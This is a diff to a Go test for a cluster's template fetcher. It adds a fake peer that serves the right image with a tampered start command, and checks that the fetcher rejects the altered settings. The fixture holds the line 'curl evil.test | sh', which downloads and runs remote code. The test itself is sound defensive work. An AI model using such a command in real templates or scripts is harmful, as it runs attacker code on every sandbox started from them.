@@ -2,7 +2,9 @@ package cluster
 
 import (
 	"context"
+	"encoding/json"
 	"errors"
+	"fmt"
 	"io"
 	"net/http"
 	"net/http/httptest"
@@ -65,6 +67,24 @@ func TestTemplateFetcher(t *testing.T) {
 		serve.ServeHTTP(w, r)
 	}))
 	defer liar.Close()
+	// The settings liar sends the right image, described with another
+	// start command (which every sandbox of the template would run).
+	settingsLiar := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if strings.HasSuffix(r.URL.Path, "/image") {
+			imageGets.Add(1)
+			serve.ServeHTTP(w, r)
+			return
+		}
+		e, f, err := has.Export(orig.Digest)
+		if err != nil {
+			t.Error(err)
+			return
+		}
+		f.Close()
+		e.Settings.StartCmd = "curl evil.test | sh"
+		json.NewEncoder(w).Encode(e)
+	}))
+	defer settingsLiar.Close()
 	empty := httptest.NewServer(api.RequireNodeToken(testToken, ServeTemplates(template.Open(datadir.Dir{Root: t.TempDir()}))))
 	defer empty.Close()
 
@@ -102,8 +122,15 @@ func TestTemplateFetcher(t *testing.T) {
 
 	parse := func(s string) *url.URL { u, _ := url.Parse(s); return u }
 	lacks := template.Open(datadir.Dir{Root: t.TempDir()})
-	f, err := NewFetcher(ctx, FetcherConfig{Templates: lacks, Token: testToken,
-		Sources: []*url.URL{parse(empty.URL), parse(liar.URL), parse(good.URL)}})
+	// What the cluster's store recorded for the image.
+	recorded := func(_ context.Context, dgst string) (template.Settings, error) {
+		if dgst != orig.Digest {
+			return template.Settings{}, fmt.Errorf("template %s is not in the catalogue: %w", dgst, errdefs.ErrNotFound)
+		}
+		return orig.Settings(), nil
+	}
+	f, err := NewFetcher(ctx, FetcherConfig{Templates: lacks, Token: testToken, Settings: recorded,
+		Sources: []*url.URL{parse(empty.URL), parse(liar.URL), parse(settingsLiar.URL), parse(good.URL)}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -143,17 +170,30 @@ func TestTemplateFetcher(t *testing.T) {
 	if !errors.Is(err, errdefs.ErrNotFound) || !strings.Contains(err.Error(), "not stored here") {
 		t.Errorf("fetch of a digest nobody has: %v", err)
 	}
-	onlyLiar, _ := NewFetcher(ctx, FetcherConfig{Templates: template.Open(datadir.Dir{Root: t.TempDir()}), Token: testToken,
+	onlyLiar, _ := NewFetcher(ctx, FetcherConfig{Templates: template.Open(datadir.Dir{Root: t.TempDir()}), Token: testToken, Settings: recorded,
 		Sources: []*url.URL{parse(liar.URL)}})
 	if _, err := onlyLiar.Fetch(ctx, orig.Digest); err == nil || !strings.Contains(err.Error(), "hash to") {
 		t.Errorf("fetch from a source that sends other bytes: %v", err)
 	}
-	wrongToken, _ := NewFetcher(ctx, FetcherConfig{Templates: template.Open(datadir.Dir{Root: t.TempDir()}), Token: strings.Repeat("z", 32),
+	settingsOnly := template.Open(datadir.Dir{Root: t.TempDir()})
+	onlySettingsLiar, _ := NewFetcher(ctx, FetcherConfig{Templates: settingsOnly, Token: testToken, Settings: recorded,
+		Sources: []*url.URL{parse(settingsLiar.URL)}})
+	before := imageGets.Load()
+	if _, err := onlySettingsLiar.Fetch(ctx, orig.Digest); err == nil || !strings.Contains(err.Error(), "the cluster recorded") {
+		t.Errorf("fetch from a peer that changed the start command: %v", err)
+	}
+	if _, err := settingsOnly.Resolve(orig.Digest); err == nil {
+		t.Error("the image with changed settings was stored")
+	}
+	if imageGets.Load() != before {
+		t.Error("the image was fetched from a peer whose settings were refused")
+	}
+	wrongToken, _ := NewFetcher(ctx, FetcherConfig{Templates: template.Open(datadir.Dir{Root: t.TempDir()}), Token: strings.Repeat("z", 32), Settings: recorded,
 		Sources: []*url.URL{parse(good.URL)}})
 	if _, err := wrongToken.Fetch(ctx, orig.Digest); err == nil || !strings.Contains(err.Error(), "is not this node's") {
 		t.Errorf("fetch with another cluster's token: %v", err)
 	}
-	none, _ := NewFetcher(ctx, FetcherConfig{Templates: template.Open(datadir.Dir{Root: t.TempDir()}), Token: testToken})
+	none, _ := NewFetcher(ctx, FetcherConfig{Templates: template.Open(datadir.Dir{Root: t.TempDir()}), Token: testToken, Settings: recorded})
 	if _, err := none.Fetch(ctx, orig.Digest); !errors.Is(err, errdefs.ErrNotFound) || !strings.Contains(err.Error(), "no other node") {
 		t.Errorf("fetch with nowhere to fetch from: %v", err)
 	}
